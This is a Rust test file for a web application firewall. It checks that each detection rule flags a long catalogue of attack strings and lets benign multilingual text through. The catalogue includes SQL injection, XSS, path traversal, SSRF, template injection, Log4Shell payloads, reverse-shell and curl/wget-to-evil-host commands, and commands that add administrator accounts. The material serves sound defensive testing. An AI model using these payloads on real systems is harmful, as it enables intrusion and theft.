//! Each rule with examples it must catch and honest text it must let through.

use super::*;

fn shield() -> Shield {
    Shield::new(InspectConfig::default()).unwrap()
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Inspects `value` as the query argument `q` of a GET request.
fn arg(s: &Shield, value: &str) -> Inspection {
    let q = format!("q={}", encode(value));
    let headers: &[(&str, &[u8])] = &[
        ("host", b"example.nl"),
        (
            "user-agent",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
    ];
    s.inspect(&Facts {
        method: "GET",
        path: "/search",
        query: Some(&q),
        headers,
        body: None,
        profile: Profile::Public,
        host_in_authority: false,
    })
}

fn path(s: &Shield, p: &str) -> Inspection {
    let headers: &[(&str, &[u8])] = &[("host", b"example.nl")];
    s.inspect(&Facts {
        method: "GET",
        path: p,
        query: None,
        headers,
        body: None,
        profile: Profile::Public,
        host_in_authority: false,
    })
}

/// (rule, attacks it must flag, as a query argument)
const POSITIVE: &[(u32, &[&str])] = &[
    (
        1001,
        &[
            "1' OR '1'='1",
            "1 UNION SELECT password FROM users--",
            "Robert'); DROP TABLE students;--",
        ],
    ),
    (
        1002,
        &[
            "0 union all select 1,2,3",
            "x UNION/**/SELECT pass",
            "1 UNION(SELECT 1)",
        ],
    ),
    (
        1003,
        &[
            "1 and sleep(5)",
            "'; waitfor delay '0:0:5'--",
            "benchmark(1000000,md5(1))",
        ],
    ),
    (
        1004,
        &["1 union select table_name from information_schema.tables"],
    ),
    (
        1005,
        &["admin' or '1'='1", "x\" or \"a\"=\"a", "' OR 1 LIKE 1"],
    ),
    (
        1006,
        &["1; DROP TABLE users", "'; exec master..xp_cmdshell 'dir'"],
    ),
    (
        1008,
        &[
            "1 and load_file('/etc/passwd')",
            "select 1 into outfile '/tmp/x'",
            "and extractvalue(1,concat(0x7e,version()))",
        ],
    ),
    (1009, &["1 or 1=1", "x and 2>1", "' or true=true"]),
    (
        2001,
        &["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"],
    ),
    (
        2002,
        &[
            "<svg/onload=alert(1)>",
            "<iframe src=//evil>",
            "</script><script>",
        ],
    ),
    (
        2003,
        &[
            "\" onmouseover=\"alert(1)",
            "x' onfocus='y",
            "<body onload=x>",
        ],
    ),
    (
        2004,
        &[
            "javascript:alert(1)",
            "JaVaScRiPt&colon;alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
        ],
    ),
    (2006, &["document.cookie", "window.location='http://evil'"]),
    (
        3001,
        &[
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//etc",
            "%2e%2e%2f%2e%2e%2fetc",
        ],
    ),
    (
        3002,
        &[
            "/etc/passwd",
            "/proc/self/environ",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
        ],
    ),
    (
        3003,
        &[
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/hosts",
            "expect://id",
        ],
    ),
    (
        3101,
        &["http://203.0.113.7/shell.txt", "https://[2001:db8::1]/x"],
    ),
    (
        3102,
        &[
            "http://evil.example/shell.txt?",
            "https://evil.example/backdoor.php",
        ],
    ),
    (
        3103,
        &[
            "gopher://127.0.0.1:6379/_SET",
            "http://169.254.169.254/latest/meta-data/",
        ],
    ),
    (
        4001,
        &[
            "; whoami",
            "| wget http://evil/x -O /tmp/x",
            "`uname -a`",
            "&& curl evil.example|sh",
            "$(nslookup x.evil)",
        ],
    ),
    (
        4002,
        &[";cat /etc/passwd", "| ls -la", "; id", "&& echo $PATH"],
    ),
    (
        4003,
        &[
            "/bin/bash -i",
            "cmd.exe /c dir",
            "cat${IFS}/etc/passwd",
            "powershell -enc AAAA",
        ],
    ),
    (4004, &["() { :; }; /bin/bash -c id"]),
    (4005, &["$(id)", "`cat /etc/passwd`"]),
    (5001, &["<?php system($_GET['c']); ?>", "<?= `id` ?>"]),
    (
        5002,
        &[
            "system('id')",
            "base64_decode('cGhwaW5mbygpOw==')",
            "passthru ( 'ls' )",
        ],
    ),
    (5003, &["$_GET['cmd']", "${$a}"]),
    (5004, &["O:8:\"stdClass\":1:{s:1:\"a\";}"]),
    (
        6001,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:rmi://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
        ],
    ),
    (
        6002,
        &[
            "java.lang.Runtime",
            "Class.forName('java.lang.Runtime').getRuntime().exec('id')",
            "java.io.FileOutputStream",
        ],
    ),
    (
        6003,
        &[
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "${#context['xwork.MethodAccessor.denyMethodExecution']}",
        ],
    ),
    (6004, &["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="]),
    (
        6006,
        &["org.apache.commons.collections.functors.InvokerTransformer"],
    ),
    (
        7001,
        &[
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}",
            "{\"__proto__\":{\"x\":1}}",
        ],
    ),
    (
        7002,
        &[
            "{{7*7}}",
            "{{config.items()}}",
            "${7*7}",
            "{{''.__class__.__mro__[1]}}",
            "{% import os %}",
        ],
    ),
    (
        7004,
        &[
            "{\"$where\": \"sleep(5000)\"}",
            "'; return this.password == 'x",
        ],
    ),
    (
        7008,
        &["<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"],
    ),
    (
        2010,
        &[
            "document.cookie",
            "document /*x*/ . domain",
            "self[\"alert\"](1)",
            "(document)[\"cookie\"]",
        ],
    ),
    (
        2011,
        &[
            "alert(1)",
            "prompt``",
            "confirm()",
            "x\";alert(document.domain)//",
        ],
    ),
    (
        2012,
        &[
            "(![]+[])[+!+[]]",
            "+ADw-script+AD4-",
            "<v:vmlframe src=\"x\"/>",
        ],
    ),
    (
        2013,
        &[
            "ja&tab;vascript:alert(1)",
            "jav&#13ascript:alert(7)",
            "data: , <x>",
        ],
    ),
    (
        2002,
        &[
            "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
            "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
        ],
    ),
    (
        1023,
        &[
            "OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
            "x' @> '1",
            "OR '[1,2]' ? '1'",
        ],
    ),
    (
        1024,
        &[
            "concat (",
            "user(\n",
            "Uncompress (",
            "xmltype(",
            "length||!!$(",
            "IN/**/(",
            ") AS orders FROM",
            "6 As\" from",
        ],
    ),
    (
        1025,
        &[
            "sELecT slEep (20 dIv 3)",
            "select if(x",
            "Xunionselectfrom",
            "declare @b",
            ";truncate[xx",
            "9999 or {if length((select username from user))>0}",
            "1.e(ascii)",
            "'x'!='y'",
            "MSysAccessObjects",
            "2.2250738585072011e-308",
        ],
    ),
    (
        5013,
        &[
            "FOOcall_user_func()",
            "bzdecomprEss()",
            "is_array()",
            "array_diff (",
            "exec //comment\n (blah)",
            "<? \techo test",
            "x=strrev( )",
        ],
    ),
    (
        4018,
        &[
            "<(cmd)",
            "${cmd}",
            "() {",
            "/bin/ab",
            "bin/ansible",
            "time sh -c whoami",
            "cd /;cd etc;column passwd",
        ],
    ),
    (
        7009,
        &[
            "http://127.0.0.1/admin",
            "http:127.0.0.1",
            "ssh://0177.00.00.01",
            "acap://①②⑦.⓪.⓪.①",
            "http://169。254。169。254/",
            "http://user:pass@evil.example/",
            "http://[fe80::%zone1]",
            "local_file://something",
            "https?",
        ],
    ),
    (
        7010,
        &[
            "this.constructor.constructor",
            "process[\"env\"]",
            "console[\"info\"](1)",
            "c\\u006fnsole.info.call(this,1)",
        ],
    ),
    (
        1026,
        &[
            "pay=AND 7639=(",
            "AND uid!=(",
            "AND deleted = 0)",
            "/3 and(",
            "--alter",
            "\";SELECT P",
            "'glob 1;",
            "'1001'='10",
            "x= ( SELECT 1",
            "id'is not-id--",
            "' xor abcdefg!",
            "DROP sampletable;--",
        ],
    ),
    (
        4019,
        &[
            "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
            ";ex dddd +silent",
            "garb=adduse[r];$garb pizza",
            "{n$u,-nlvp,777}",
            "'wh'oami",
            "time ifconfig",
            "cat /[e//]tc/[p//]asswd",
            "alias eennvv=env&eennvv whoami",
            "set -o history",
            "env --version",
            "'c'url localhost",
            "find /etc -name passwd -exec cat {} +",
            ";env",
        ],
    ),
    (
        2014,
        &[
            "[].sort.call`${alert}1337`",
            "Reflect.apply.call`${navigation.navigate}`",
            "x\";setTimeout(name, 1)//",
            "-moz-binding:url(http://example.com/xss.xml#xss)",
            "width: expression(alert(1))",
        ],
    ),
    (
        1027,
        &[
            "pay=or 1='",
            "|| langCode == '",
            "oR pmw==",
            ";SET @OLD_SQL_MODE",
            "pay=;drop",
        ],
    ),
    (
        5014,
        &[
            "checkdate/*x*/()",
            "symlink//c\n()",
            "serialize#c\n()",
            "pi\u{b}()",
        ],
    ),
    (7012, &["printer)(uid=*)", "bar)(&)", "*)(|(objectclass=*)"]),
    (
        7009,
        &[
            "http://google.com:80 &@127.88.23.245:22/",
            "http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/",
            "gateway.docker.internal/",
            "lvh.me/",
            "ftp://foo.bar",
        ],
    ),
    (
        7010,
        &[
            "while(this);",
            "@{[system 'id']}",
            "<% if True %>49<% endif %>",
            "d2hpbGUodHJ1ZSk7Cg==",
        ],
    ),
    (
        9011,
        &[
            "aaa\nGET / HTTP/1.1",
            "foobar\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
            "munch\r\n\r\n<HTML><title></title></HTML>",
            "x\r\nSet-Cookie: sid=1",
        ],
    ),
    (1019, &["admin@example.com';", "x' -- c", "1\u{2019};--"]),
    (
        1020,
        &[
            "group_concat(password)",
            "x' or sqlite_compileoption_used (id)--",
            "1 and extractvalue(1, 0x7e)",
        ],
    ),
    (1021, &["cast(", "ABS(", "database("]),
    (
        1022,
        &[
            "1 group by x having count(*) > 1",
            "case when 1=1 then 2 end",
            "drop table users",
        ],
    ),
    (
        4013,
        &[
            ";cat /etc/passwd",
            "x && ls -la",
            "|nc -e /bin/sh 10.0.0.1",
            "; wget -O /tmp/z http://x.example/y",
            "a=nc&&$a -nlvp 555",
        ],
    ),
    (
        4014,
        &[
            ";aptitude",
            "x|base64 -d",
            "&& python3 -c 1",
            "; openssl s_client",
        ],
    ),
    (
        4017,
        &["$[2+2]", "{,echo,#test}", "$SHELL -c id", "${cmd};", "~+"],
    ),
    (
        4016,
        &["IF /I item1==item2 CMD", "FOR /L /L %a IN (1,1,5) DO x"],
    ),
    (
        5011,
        &[
            "$$b(2)",
            "$__[$_[1]](7)",
            "${@a}(10)",
            "(sy.(st).em)('uname');",
        ],
    ),
    (
        5012,
        &["<? php echo 1", "allow_url_include=1", "engine=true"],
    ),
    (
        7009,
        &[
            "http://2852039166/",
            "http://0xA9.0xFE.0xA9.0xFE/",
            "localhost/",
            "data:text/plain;base64,SSBsb3ZlIFBIUAo=",
        ],
    ),
    (
        7010,
        &[
            "while(Infinity);",
            "__js_function",
            "eval(String.fromCharCode(97))",
            "require('child_process')",
        ],
    ),
    (
        8001,
        &[
            "<meta http-equiv=Set-Cookie content=\"sid=1\">",
            "document.cookie=\"sid=1; path=/\"",
        ],
    ),
    (
        1029,
        &[
            " ORDER BY 13-- ",
            "1 order by 3#",
            "' GROUP BY 2",
            " HAVING 1=1--",
        ],
    ),
    (
        1030,
        &[
            " or 'a'='a",
            ") or (a=a",
            "hi or a=a",
            " OR x=y#",
            " OR [RANDNUM]=[RANDNUM]",
            " or 'text' = n'text'",
            "' or (EXISTS)",
            " or true--",
            " or 1 --'",
            " or 2 between 1 and 3",
            " or 'whatever' in ('whatever')",
        ],
    ),
    (
        1031,
        &[
            "; exec xp_regread",
            "1 exec sp_addlogin",
            ";SELECT COUNT(*) FROM ALL_USERS T1",
            "1;SELECT *",
            "@var select @var as var into temp end --",
            "select current_user;",
            "create table myfile (input TEXT);",
            "BACKUP database master to disk='x'",
            "' || myappadmin.adduser('admin', 'newpass') || '",
        ],
    ),
    (1004, &["select * from pg_group;", "select * from sysusers"]),
    (
        7013,
        &[
            "{{ request }}",
            "{{self}}",
            "{{dump(app)}}",
            "{{''.class.mro()[1].subclasses()}}",
            "{{['id']|filter('system')}}",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "<#assign ex = \"x\"?new()>",
            "{$smarty.version}",
            "{42*42}",
            "@(1+2)",
            "_context|keys|first",
            "globals()",
            "settings.SECRET_KEY",
            "constant('Twig_Environment::VERSION')",
            "self._TemplateReference__context",
        ],
    ),
    (
        7014,
        &[
            "{$gt: ''}",
            "{\"$gt\": \"\"}",
            "{ $ne: 1 }",
            "[$ne]=1",
            "', $or: [ {}, { 'a':'a",
            "' && this.password.match(/.*/)//",
            "0;return true",
        ],
    ),
    (7012, &["admin*)((|userPassword=*)", "*()|&'", "*))"]),
    (
        5016,
        &[
            "fopen  (blah)",
            "filegroup(x)",
            "[system][0](ls);",
            "(['system'])[0]('uname');",
            "( [ system ][ 0 ]) {/* comment */0} ( ls );",
            "(sy.(st).em)(@id)",
            "file_get_contents('/etc/hosts')",
        ],
    ),
    (
        4002,
        &["|/bin/ls -al", "|usr/bin/id", "& sleep 5", "sleep 10"],
    ),
    (3002, &["etc/passwd", "../etc/shadow", "etc%c0%afpasswd"]),
    (3001, &["%\\..%\\..%\\..%\\..winnt"]),
    (
        3005,
        &[
            "/usr/local/apache/logs/access.log",
            "/apache2/logs/error_log",
            "/boot/grub/grub.conf",
            "/logs/access.log",
            "/.bashrc",
            "C:\\Program Files\\",
            "c:/windows/win.ini",
            "file:///etc/hostname",
            "/C:/inetpub/ftproot/",
            "~/.nano_history",
            "/logs/access_log",
            "C:/Users/Administrator/NTUser.dat",
        ],
    ),
    (
        3006,
        &[
            "config.inc.php",
            "database.asp",
            "../config.js",
            "wp-config.php.bak.php",
        ],
    ),
    (
        4020,
        &[
            "& dir C:\\",
            "&& net localgroup Administrators hacker /ADD",
            "; net view",
            "| reg add \"HKLM\\System\" /v x",
            "& sysinfo",
            "&& pwd",
            "a;id",
            "ipconfig /all",
            "ls -l /",
            "curl https://evil.example/x.txt",
            "ping -i 30 127.0.0.1",
            "net view",
            "net localgroup Administrators hacker /ADD",
            "netsh firewall set opmode disable",
            "reg add \"HKLM\\System\" /v x /f",
        ],
    ),
    (
        5015,
        &[
            "${@print(\"RCEVulnerable\")}",
            ":phpversion();",
            "phpinfo()",
        ],
    ),
    (
        1028,
        &[
            "uni/**/on sel/**/ect",
            "admin'/*",
            "1/*!1111'*/",
            "SELECT/*avoid-spaces*/password/**/FROM/**/Members",
            "DROP/*comment*/sampletable",
            "' /*!50000or*/1='1",
        ],
    ),
    (1019, &["admin' #", "root\" #"]),
    (
        2015,
        &[
            "(alert)(1)",
            "a=alert,a(1)",
            "[1].find(alert)",
            "top[/al/.source+/ert/.source](1)",
            "self[8680439..toString(30)](1)",
            "\"onmouseover",
            "eval(name)",
            "eval(eval(document.styleSheets[0].cssRules[0].style.content))",
            "a=/ev/.source+/al/.source",
            "'onerror",
        ],
    ),
];

#[test]
fn every_rule_catches_its_attacks() {
    let s = shield();
    for (rule, attacks) in POSITIVE {
        for attack in *attacks {
            let got = arg(&s, attack);
            assert!(
                got.rule_ids().contains(rule),
                "rule {rule} missed {attack:?}: {:?}",
                got.matches
            );
            let critical = RULES
                .iter()
                .find(|r| r.id == *rule)
                .is_none_or(|r| r.severity == Severity::Critical);
            if critical {
                assert!(
                    got.is_attack(DEFAULT_THRESHOLD),
                    "{attack:?} scored only {}",
                    got.score
                );
            }
        }
    }
}

/// Honest values that must pass: names, prose in several languages, searches, URLs, e-mail,
/// prices, and the kind of code people paste into a contact form.
const HONEST: &[&str] = &[
    "O'Brien",
    "D'Artagnan & Co",
    "select a size",
    "I love <3 cats",
    "hello world",
    "Ça va? Très bien!",
    "Müller-Lüdenscheidt",
    "Zoë's café",
    "naïve résumé",
    "日本語のテキスト",
    "Привет, как дела?",
    "مرحبا بالعالم",
    "What's the difference between 'or' and 'and'?",
    "Call me at +31 6 1234 5678",
    "price: €12,50 (incl. VAT)",
    "anneke@example.nl",
    "https://www.example.com/page?x=1&y=2",
    "http://example.org/docs/index.html",
    "50% off -- today only!",
    "Rock 'n' roll",
    "We're open 9-17; closed on Sundays.",
    "1 + 1 = 2",
    "Hoe laat is het? Wij zijn om 9:00 open.",
    "Die Straße ist schön.",
    "El niño comió",
    "Tom & Jerry; cats & dogs",
    "Can I bring my dog; cat lovers welcome?",
    "The alert (red) was lifted",
    "size: 10 x 20 cm",
    "C:\\Users\\Anneke\\Documents",
    "Please select one option from the list below",
    "Order by phone or e-mail",
    "He said \"hello\" and left",
    "1st, 2nd and 3rd place",
    "item #42 (blue)",
    "The script for the play is ready",
    "<3 you all :)",
    "if (a < b) { return b; }",
    "SELECT name FROM products WHERE price < 10",
    "let x = [1, 2, 3];",
    "Where is the 'sale' page?",
    "Is 5 > 3? Yes.",
    "password reset please",
    "My son's name is Ryan O'Neil",
    // Prose that once looked like chained commands (German "man", "links"; "more", "|PG|").
    "Ihre kleine Schwester ist französisches Esskulturgut; man gönnt sie sich.",
    "Die untere Dortmunder Straße; links Haus Nr. 104",
    "a hero; more than that",
    "|PG|XXX Flash Sale März",
    "Salt & pepper; fish & chips",
    "Meet us at 10; time flies",
    // Code people paste: method calls, jQuery, template literals, SQL.
    "Math.abs(x) + Math.floor(y)",
    "str.replace('a', 'b')",
    "$('#menu').hide();",
    "INSERT INTO t (a) VALUES (1)",
    // Words that are also functions, in prose.
    "The new version (2.0) is out",
    "Please sleep (8 hours) well",
    "import time; time.sleep(1)",
    "Visit https://www.example.com:8080 for the demo",
    "Follow https://medium.com/@anneke/spring-market",
    "The alert (red) was lifted; please confirm (by e-mail)",
    "Our data: 3 items, <10 kg",
    "Please select user name and password",
    "Drop us a line; drop by any time",
    "I like (this) like (that)",
    "Count (them) all: sum (of) parts",
    "We create table decorations",
    "def is_prime(n): return n > 1 and all(n % d for d in range(2, n))",
    "if is_valid(x): print(x)",
    "The file (attached) is large",
    "I'm angry >(",
    "Binary search in bin/ folders is fast",
    "Time flies -- or does it?",
    "It's not like we didn't try",
    "Price (incl. VAT) as usual from us",
    "Tickets: $10; $5 for kids",
    "whoami is a command on Linux",
    "function greet(){ return 'hi' }",
    "He said \"hi\"; alerts were off",
    "Use fn.call(this, x) in JavaScript",
    "Tea or coffee = yes please",
    "Set @anneke as the owner",
    "Rock 'n' roll and 'a','b' lists",
    "My ID -5 card",
    "Tickets: $25 each",
    "Meet us in (central) Amsterdam",
    "Known as 'the baker' from Delft",
    "Amsterdam (NL)",
    "Number of guest(s)",
    "this is a \"dog\" (not a cat)",
    "ecosystem()",
    "Dear team,\nContent: see below.\nHost: Anneke\nLocation: Utrecht",
    "Smileys :) (and :( too)",
    "Our files are on ftp://ftp.example.org if you need them",
    "Bread and butter (salted) and cheese = 5 euro)",
    "Rock -- select the best band; \"Queen\"; or not",
    "Sizes: '38' or '40'",
    "Add ¼ cup of sugar and ¾ cup of flour; costs 50¢",
    "console.log(\"hello\")",
    "See https://www.example.org/about and mail info@example.org",
    // Near misses of the classes of session 3: orders, counts and prices in prose.
    "Please deliver my order by 5",
    "2 adults and 1 child = 25 euro",
    "Is it true or false?",
    "Choose 'yes' or 'no' please",
    "Kids aged 4 and 5 welcome",
    "Your order by 12 December, please -- thanks!",
    "We're having 2 guests; select 2 chairs",
    "call me at 10; begin at 11",
    "The \"online\" shop and the 'onboarding' page",
    "Tickets (adult) = 10, (child) = 5",
    "/* a comment */ body { color: red; }",
    "int x = 1; /* the first */",
    "5*/2 or 5/*2",
    // Templates and JSON people paste, prices in braces.
    "Hello {{ name }}, your order {{order.id}} is ready",
    "{{#each items}}{{this}}{{/each}}",
    "const s = `Hi ${name}`;",
    "Run `npm install -g bolwerk` and then `bolwerk demo`",
    "{\"name\": \"Anneke\", \"price\": 12}",
    "Options {a, b, c} and {1-2}",
    "The $gt sign means greater than",
    "return to sender; return true love",
    // Site paths, Windows documents, ids and prose near the command and path classes.
    "/news/spring-market",
    "/home/about-us",
    "/dev/blog",
    "C:\\Users\\Anneke\\Desktop\\photo.jpg",
    "Name & ID",
    "Q & A; id card needed",
    "Please bring your ID; we check at the door",
    "dir. Jansen (director)",
    "Net view of the garden",
    "Please sleep 8 hours",
    "Our error log shows nothing; the config is fine",
    "The database.pdf and the config page",
    "eval(input()) is dangerous, says my teacher",
    "~/Documents/photo.jpg",
    "Half/half: 1/2 source of truth",
    // Quotes around phrases, and URLs mentioned in prose.
    "The reset mail says: 'Click here to reset' -- but nothing happens.",
    "Book title: 'Who's Afraid of Virginia Woolf?' -- do you have it?",
    "Join us for 'Union Jack' night -- select your favourite song!",
    "In my notes: 'select * from the list what you like' haha",
    "He wrote \"or else\" -- typical",
    "I tried the link http://localhost:8080 from your e-mail",
    "The booking system (new) works; include (some) photos",
    "Links [1] [2] (see below)",
    "Option (a.b) (c)",
    // Line breaks separate shell commands; in a letter they separate lines that may start
    // with words that are also commands.
    "Dear all,\nwho can help on Saturday?\nMore info below.\nLast year we had 40 guests.\nID cards are not needed.\nSleep well,\nAnneke",
    "Hi,\r\n\r\nping me when you know more.\r\nW. Jansen\r\nwhich day suits you?\r\n\r\nThanks",
    "Lijst:\n- cat food\n- echo of the choir\n- find a venue\ntime: 10:00\nhead count: 12",
    "Mon & Tue: sleep in",
    "ping me when you are ready",
    "cat lovers welcome",
    "The PHP info session ${name}",
    // Pasted code: a whole SQL statement with a comment, a spreadsheet formula.
    "SELECT name FROM members WHERE city = 'Utrecht' -- from the course",
    "In Excel I use =IF(B2>10;\"ok\";\"no\") -- is that right?",
    // What visitors type into site search (`/search?q=`), Dutch included.
    "select a course",
    "drop off point",
    "union of volunteers",
    "delete my account",
    "insert coin",
    "update on the roadworks",
    "café",
    "zo'n",
    "België",
    "één",
    "'s-Hertogenbosch",
    "zo'n mooie dag in 's-Gravenhage",
    "script",
    "or",
    "and or not",
    "opening hours sunday",
    "jaarverslag 2024",
    "NEAR(a b)",
    "title:x",
    "-foo bar*",
];

#[test]
fn a_pasted_statement_does_not_excuse_an_injection() {
    let s = shield();
    // Still caught inside a pasted-looking statement: a breakout with a tautology or UNION.
    for attack in [
        "select a from b where c = 'x' or '1'='1' -- ",
        "select name from t' union select password from users -- '",
    ] {
        assert!(arg(&s, attack).is_attack(DEFAULT_THRESHOLD), "{attack:?}");
    }
    // A pasted statement in one field does not weaken the same rules in another field.
    let q = format!(
        "a={}&b={}",
        encode("SELECT name FROM members WHERE city = 'Utrecht' -- course"),
        encode("admin' --")
    );
    let headers: &[(&str, &[u8])] = &[("host", b"example.nl")];
    let got = s.inspect(&Facts {
        method: "GET",
        path: "/search",
        query: Some(&q),
        headers,
        body: None,
        profile: Profile::Public,
        host_in_authority: false,
    });
    assert!(got.is_attack(DEFAULT_THRESHOLD), "{:?}", got.matches);
}

#[test]
fn phrase_quotes_are_told_from_breakouts() {
    for prose in [
        "'Click here' -- nothing",
        "Who's 'the boss'?",
        "(\"a\") and 'b'.",
    ] {
        assert!(phrase_quoted(prose), "{prose:?}");
    }
    for breakout in [
        "admin' --",
        "' or '1'='1",
        "x' or 'a'='a' --",
        "'admin'--",
        "1' order by 1 -- '",
        "no quotes -- at all",
        "'open",
        "o'brien",
    ] {
        assert!(!phrase_quoted(breakout), "{breakout:?}");
    }
    // Breakouts padded with phrase quotes are still caught by the other SQL rules.
    let s = shield();
    for attack in ["'a' or 'b' = 'b'", "x 'union select password from users' y"] {
        assert!(arg(&s, attack).is_attack(DEFAULT_THRESHOLD), "{attack:?}");
    }
}

#[test]
fn honest_values_pass() {
    let s = shield();
    for honest in HONEST {
        let got = arg(&s, honest);
        assert!(
            !got.is_attack(DEFAULT_THRESHOLD),
            "{honest:?} blocked: {:?}",
            got.matches
        );
    }
}

#[test]
fn probes_and_traversal_in_the_path() {
    let s = shield();
    for p in [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/backup.sql",
        "/index.php~",
        "/cgi-bin/test.cgi",
        "/a/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
    ] {
        assert!(path(&s, p).is_attack(DEFAULT_THRESHOLD), "{p} passed");
    }
    for p in [
        "/",
        "/about",
        "/news/spring-market",
        "/media/0123456789abcdef0123456789abcdef.png",
        "/shell-company",
        "/debugging-tips",
        "/robots.txt",
        "/favicon.ico",
        "/caf%C3%A9",
    ] {
        let got = path(&s, p);
        assert!(
            !got.is_attack(DEFAULT_THRESHOLD),
            "{p} blocked: {:?}",
            got.matches
        );
    }
}

#[test]
fn protocol_anomalies() {
    let s = shield();
    let base: Vec<(&str, &[u8])> = vec![("host", b"example.nl")];
    let check = |method: &str, extra: &[(&str, &[u8])], body: Option<&[u8]>| {
        let mut headers = base.clone();
        headers.extend_from_slice(extra);
        s.inspect(&Facts {
            method,
            path: "/",
            query: None,
            headers: &headers,
            body,
            profile: Profile::Public,
            host_in_authority: false,
        })
    };
    assert!(check("TRACE", &[], None).is_attack(5));
    assert!(check("PUT", &[], None).is_attack(5));
    assert!(
        check(
            "POST",
            &[("content-length", b"3"), ("transfer-encoding", b"chunked")],
            Some(b"a=1")
        )
        .is_attack(5)
    );
    assert!(
        check("GET", &[("host", b"other.example")], None).is_attack(5),
        "two Host headers"
    );
    assert!(check("POST", &[("content-type", b"text/plain")], Some(b"hello")).is_attack(5));
    assert!(
        check(
            "POST",
            &[(
                "content-type",
                b"application/x-www-form-urlencoded; charset=utf-7"
            )],
            Some(b"a=1")
        )
        .is_attack(5)
    );
    assert!(
        check(
            "GET",
            &[("range", b"bytes=0-1,2-3,4-5,6-7,8-9,10-11")],
            None
        )
        .is_attack(5)
    );
    assert!(!check("GET", &[("range", b"bytes=0-1023")], None).is_attack(5));
    assert!(
        !check(
            "POST",
            &[("content-type", b"application/x-www-form-urlencoded")],
            Some(b"name=O%27Brien&msg=Hello+there")
        )
        .is_attack(5)
    );
    assert!(!check("OPTIONS", &[], None).is_attack(5));
}

#[test]
fn bodies_headers_and_cookies_are_inspected() {
    let s = shield();
    let form: &[(&str, &[u8])] = &[
        ("host", b"x"),
        ("content-type", b"application/x-www-form-urlencoded"),
    ];
    let got = s.inspect(&Facts {
        method: "POST",
        path: "/contact",
        query: None,
        headers: form,
        body: Some(b"name=x&msg=%3Cscript%3Ealert(1)%3C/script%3E"),
        profile: Profile::Public,
        host_in_authority: false,
    });
    assert!(
        got.is_attack(5) && got.matches[0].location.starts_with("body:"),
        "{got:?}"
    );

    let json: &[(&str, &[u8])] = &[("host", b"x"), ("content-type", b"application/json")];
    let got = s.inspect(&Facts {
        method: "POST",
        path: "/api",
        query: None,
        headers: json,
        body: Some(br#"{"user": {"$ne": null}, "q": "1 union select 1"}"#),
        profile: Profile::Public,
        host_in_authority: false,
    });
    assert!(got.rule_ids().contains(&1002), "{got:?}");

    let ua: &[(&str, &[u8])] = &[("host", b"x"), ("user-agent", b"sqlmap/1.7")];
    assert!(
        s.inspect(&Facts {
            method: "GET",
            path: "/",
            query: None,
            headers: ua,
            body: None,
            profile: Profile::Public,
            host_in_authority: false
        })
        .is_attack(5)
    );
    let shellshock: &[(&str, &[u8])] =
        &[("host", b"x"), ("referer", b"() { :; }; /bin/bash -c 'id'")];
    assert!(
        s.inspect(&Facts {
            method: "GET",
            path: "/",
            query: None,
            headers: shellshock,
            body: None,
            profile: Profile::Public,
            host_in_authority: false
        })
        .is_attack(5)
    );
    let cookie: &[(&str, &[u8])] = &[("host", b"x"), ("cookie", b"lang=nl; pref=' or 1=1--")];
    assert!(
        s.inspect(&Facts {
            method: "GET",
            path: "/",
            query: None,
            headers: cookie,
            body: None,
            profile: Profile::Public,
            host_in_authority: false
        })
        .is_attack(5)
    );
    let multipart: &[(&str, &[u8])] = &[
        ("host", b"x"),
        ("content-type", b"multipart/form-data; boundary=XyZ"),
    ];
    let body = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n\r\nxx\r\n--XyZ--\r\n";
    assert!(
        s.inspect(&Facts {
            method: "POST",
            path: "/up",
            query: None,
            headers: multipart,
            body: Some(body),
            profile: Profile::Public,
            host_in_authority: false
        })
        .is_attack(5)
    );
}

#[test]
fn editor_content_is_not_blocked_but_everything_else_is() {
    let s = shield();
    let form: &[(&str, &[u8])] = &[
        ("host", b"x"),
        ("content-type", b"application/x-www-form-urlencoded"),
    ];
    let body = b"body=%3Cscript%3Ealert(1)%3C/script%3E";
    let editor = s.inspect(&Facts {
        method: "POST",
        path: "/_admin/pages/save",
        query: None,
        headers: form,
        body: Some(body),
        profile: Profile::EditorContent,
        host_in_authority: false,
    });
    assert!(!editor.is_attack(5), "sanitised on output instead");
    let q = s.inspect(&Facts {
        method: "POST",
        path: "/_admin/pages/save",
        query: Some("x=1%27%20or%20%271%27=%271"),
        headers: form,
        body: Some(body),
        profile: Profile::EditorContent,
        host_in_authority: false,
    });
    assert!(q.is_attack(5));
}

#[test]
fn disabled_rules_do_not_fire() {
    let s = Shield::new(InspectConfig {
        disabled_rules: vec![2001, 2002, 2003, 2005, 2008],
        ..Default::default()
    })
    .unwrap();
    let got = arg(&s, "<script>x</script>");
    assert!(
        !got.rule_ids().iter().any(|r| [2001, 2002].contains(r)),
        "{got:?}"
    );
}

#[test]
fn huge_and_hostile_inputs_stay_linear_and_safe() {
    let s = shield();
    let long = "a'".repeat(10_000) + &"(".repeat(10_000) + &"%25".repeat(5_000);
    let _ = arg(&s, &long);
